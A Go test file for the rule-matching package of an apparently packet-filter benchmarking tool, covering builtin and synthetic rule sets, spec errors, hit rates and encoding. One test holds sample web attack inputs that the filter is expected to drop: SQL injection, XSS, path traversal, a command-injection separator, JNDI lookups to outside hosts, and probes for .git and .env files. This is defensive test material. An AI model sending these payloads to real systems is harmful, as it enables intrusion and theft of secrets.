package rules_test

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tigerbench/tigerbench/packet"
	"github.com/tigerbench/tigerbench/rules"
)

func open(t testing.TB, spec string) *rules.Set {
	t.Helper()
	set, warnings, err := rules.Open(spec, rules.Options{})
	require.NoError(t, err)
	require.Empty(t, warnings)
	return set
}

// TestBuiltin24 has the shape of the original experiment.
func TestBuiltin24(t *testing.T) {
	set := open(t, "builtin:24")
	assert.Equal(t, 24, set.Len())
	assert.Equal(t, "builtin:24", set.Name())
	assert.True(t, set.KeyOnly())
	assert.True(t, set.DropOnly())
	types, prefixes := map[string]int{}, 0
	for _, r := range set.Rules() {
		if types[r.Type]++; r.Type == "ip_src_in" {
			prefixes += len(r.Values)
		}
	}
	assert.Equal(t, map[string]int{"ip_src_in": 10, "tcp_dst_port": 14}, types)
	assert.Equal(t, 30, prefixes)
}

// TestBuiltinWeb wants attacks dropped by the rule meant for them, and plain requests accepted.
func TestBuiltinWeb(t *testing.T) {
	set := open(t, "builtin:web")
	assert.GreaterOrEqual(t, set.Len(), 100)
	assert.True(t, set.DropOnly())
	assert.Equal(t, packet.NeedHTTP|packet.NeedDNS, set.Needs())
	for _, r := range set.Rules() {
		assert.Equal(t, 7, r.Layer, r.ID)
	}
	const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	evaluate, reference := linear(t, set), oracle(t, set)
	for want, packets := range map[string][]*packet.Packet{
		"sqli-union-select": {http("GET", "/item?id=-1%20UNION%20SELECT%20null"), http("GET", "/item?id=1+union+all+select+1")},
		"sqli-tautology":    {http("GET", "/item?id=1'+or+1=1")},
		"sqli-stacked":      {http("GET", "/item?id=1;DROP%20TABLE%20users")},
		"xss-script-tag":    {http("GET", "/search?q=%3Cscript%3E"), http("GET", "/search?q=<script>")},
		"traversal-plain":   {http("GET", "/view?file=../../etc")},
		"traversal-encoded": {http("GET", "/view?file=..%2f..%2f")},
		"command-separator": {http("GET", "/ping?host=;cat%20/x")},
		"jndi-uri":          {http("GET", "/?x=${jndi:ldap://198.51.100.7/a}")},
		"jndi-user-agent":   {http("GET", "/", "User-Agent", "${jndi:dns://x.test}")},
		"scanner-sqlmap":    {http("GET", "/", "User-Agent", "sqlmap/1.8")},
		"method-debug":      {http("TRACE", "/", "User-Agent", browser)},
		"host-outside":      {http("GET", "/", "Host", "attacker.test")},
		"repository-git":    {http("GET", "/.git/config")},
		"secrets-env":       {http("GET", "/.env")},
		"dns-tunnel-zones":  {dns("abcdef.t.tunnel.test")},
		"dns-many-labels":   {dns("a.b.c.d.e.f.g.h.i.example")},
		"":                  {http("GET", "/docs/union-of-sets", "User-Agent", browser), http("GET", "/news/select-from-our-range", "User-Agent", browser, "Host", "www.example.com"), http("POST", "/login", "User-Agent", browser), dns("www.example.com"), tcp(1, 80)},
	} {
		for _, p := range packets {
			v := evaluate(p)
			assert.Equal(t, reference(p), v)
			got := ""
			if v.Rule != rules.NoRule {
				got = set.Rules()[v.Rule].ID
			}
			assert.Equal(t, want, got, "%+v", p.L7)
		}
	}
}

func TestOpenFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rules.json")
	require.NoError(t, os.WriteFile(path, []byte(validFile), 0o600))
	assert.Equal(t, 8, open(t, path).Len())
	_, _, err := rules.Open(path+"x", rules.Options{})
	assert.ErrorIs(t, err, os.ErrNotExist)
	assert.ErrorContains(t, err, path+"x")
	_, _, err = rules.Open(t.TempDir(), rules.Options{})
	assert.ErrorContains(t, err, "is a directory")
}

func TestBadSpecs(t *testing.T) {
	for spec, want := range map[string]string{
		"builtin:25":                  "give builtin:24 or builtin:web",
		"synthetic:":                  `"" is no number of rules`,
		"synthetic:-1":                "is no number of rules: give one from 0 to 1000000",
		"synthetic:99999999":          "is no number of rules",
		"synthetic:2,":                `"" is no setting: give cost=DURATION`,
		"synthetic:2,price=1ns":       `"price" is no setting`,
		"synthetic:2,cost=5":          "cost is \"5\": give a duration from 0 to 1s, as in cost=50ns",
		"synthetic:2,cost=2s":         "give a duration from 0 to 1s",
		"synthetic:2,cost=-1ns":       "give a duration from 0 to 1s",
		"synthetic:2,seed=x":          `seed is "x"`,
		"synthetic:2,hit=1.1":         "give a share from 0 to 1",
		"synthetic:2,hit=1e-1":        "give a share from 0 to 1",
		"synthetic:2,hit=0.1,at=end":  `at is "end": give first, middle, last, random`,
		"synthetic:2,at=last":         "give hit=SHARE too",
		"synthetic:0,hit=0.5":         "give at least 1 rule",
		"synthetic:2,seed=1,seed=2":   "seed is given twice",
		"synthetic:2,hit=0,at=random": "there are none",
	} {
		_, _, err := rules.Open(spec, rules.Options{})
		assert.ErrorContains(t, err, want, spec)
		assert.ErrorContains(t, err, spec)
	}
}

// TestSyntheticHits measures the hit rate over many distinct keys, and where the deciding rules are.
func TestSyntheticHits(t *testing.T) {
	const packets = 20_000
	for _, c := range []struct {
		spec   string
		rate   float64
		places int // of rules that decide
		first  int // of them, -1: any
	}{
		{"synthetic:0", 0, 0, -1},
		{"synthetic:50", 0, 0, -1},
		{"synthetic:50,hit=0.1,at=first", 0.1, 1, 0},
		{"synthetic:50,hit=0.25,at=middle,seed=9", 0.25, 1, 25},
		{"synthetic:50,hit=0.5,at=last", 0.5, 1, 49},
		{"synthetic:50,hit=1,at=last", 1, 1, 49},
		{"synthetic:50,hit=0.5,at=random", 0.5, 16, -1},
		{"synthetic:3,hit=0.2", 0.2, 3, -1},
	} {
		set := open(t, c.spec)
		evaluate, reference := linear(t, set), oracle(t, set)
		decided, hits := map[uint32]int{}, 0
		for i := range packets {
			p := tcp(uint16(i), 80)
			p.SrcLo += uint64(i)
			v := evaluate(p)
			require.Equal(t, reference(p), v, c.spec)
			if v.Rule != rules.NoRule {
				hits++
				decided[v.Rule]++
			}
		}
		assert.InDelta(t, c.rate, float64(hits)/packets, 0.02, c.spec)
		assert.Len(t, decided, c.places, c.spec)
		if c.first >= 0 {
			assert.Contains(t, decided, uint32(c.first), c.spec)
		}
	}
}

// TestSyntheticIsReproducible: a seed always makes the same rules, and another seed others.
func TestSyntheticIsReproducible(t *testing.T) {
	a, b, c := open(t, "synthetic:100,seed=7,hit=0.1"), open(t, "synthetic:100,seed=7,hit=0.1"), open(t, "synthetic:100,seed=8,hit=0.1")
	assert.Equal(t, a.Rules(), b.Rules())
	assert.NotEqual(t, a.Rules(), c.Rules())
	types := map[string]int{}
	for _, r := range open(t, "synthetic:1000").Rules() {
		types[r.Type]++
	}
	assert.Equal(t, 500, types["match"])
	assert.Equal(t, 500, types["ip_src_in"]+types["ip_dst_in"])
}

// TestCost: the set carries an amount of work, which survives encoding and changes no verdict.
func TestCost(t *testing.T) {
	set, _, err := rules.Open("synthetic:40,cost=50ns,hit=0.5", rules.Options{OpsPerMicrosecond: 1000})
	require.NoError(t, err)
	assert.Equal(t, uint64(50), set.CostOperations())
	data, err := rules.Encode(set)
	require.NoError(t, err)
	again := load(t, string(data), rules.Options{})
	assert.Equal(t, set.CostOperations(), again.CostOperations())
	assert.Equal(t, set.Rules(), again.Rules())
	evaluate, reference := linear(t, again), oracle(t, again)
	for i := range 500 {
		p := udp(uint16(i), 7)
		assert.Equal(t, reference(p), evaluate(p))
	}
	for cost, want := range map[string]uint64{"1ns": 1, "1us": 1000, "0s": 0, "100ps": 1} {
		set, _, err := rules.Open("synthetic:4,cost="+cost, rules.Options{OpsPerMicrosecond: 1000})
		if cost == "100ps" {
			assert.Error(t, err, "durations have no picoseconds")
			continue
		}
		require.NoError(t, err)
		assert.Equal(t, want, set.CostOperations(), cost)
	}
	assert.Positive(t, rules.Calibrate())
}

// TestEncode: a round trip gives the same rules, and the same file from then on.
func TestEncode(t *testing.T) {
	for _, set := range []*rules.Set{open(t, "builtin:24"), open(t, "builtin:web"), open(t, "synthetic:0"), open(t, "synthetic:30,hit=0.3"), load(t, validFile, rules.Options{})} {
		first, err := rules.Encode(set)
		require.NoError(t, err)
		again := load(t, string(first), rules.Options{})
		second, err := rules.Encode(again)
		require.NoError(t, err)
		assert.Equal(t, string(first), string(second))
		assert.Equal(t, fmt.Sprint(set.Rules()), fmt.Sprint(again.Rules()))
	}
	data, err := rules.Encode(load(t, validFile, rules.Options{}))
	require.NoError(t, err)
	assert.JSONEq(t, validFile, string(data))
}
